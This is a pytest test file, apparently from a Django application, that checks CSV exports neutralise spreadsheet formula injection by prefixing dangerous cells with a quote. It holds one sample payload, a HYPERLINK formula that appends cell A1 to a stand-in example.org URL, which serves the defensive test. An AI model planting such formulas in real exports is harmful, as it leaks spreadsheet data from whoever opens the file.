"""CSV injection: a formula in a name is written as text, and every CSV writer
goes through the one helper (``reports.csv_export``).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

# --- CSV injection ---------------------------------------------------------------


FORMULA = '=HYPERLINK("https://example.org/x?"&A1,"Klik")'


def test_a_formula_in_a_name_is_written_as_text(client, contract_manager):
    """The attack: a municipality named like a spreadsheet formula is exported
    with a quote in front, so no spreadsheet runs it; every other cell that
    starts with = + - @, a tab or a carriage return likewise."""
    municipality = contract_manager.organisation.municipality
    municipality.name = FORMULA
    municipality.save()
    client.force_login(contract_manager)
    response = client.get(
        reverse("web:report_municipal_csv", args=[municipality.pk]), {"period": "2025"}
    )
    rows = list(
        csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    )
    assert ["Gemeente", "'" + FORMULA, ""] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6", "'+31 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Utrecht", "Utrecht"),
        ("a=b", "a=b"),
        (7, 7),
        ("", ""),
    ],
)
def test_safe_cell(value, written):
    from reports.csv_export import safe_cell

    assert safe_cell(value) == written


def test_every_csv_writer_goes_through_the_one_helper():
    """No module but ``reports.csv_export`` makes a ``csv.writer``."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in (
            "accounts",
            "audit",
            "cases",
            "config",
            "reports",
            "retention",
            "roles",
        )
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
        and path.relative_to(root).as_posix() != "reports/csv_export.py"
    ]
    assert offenders == []
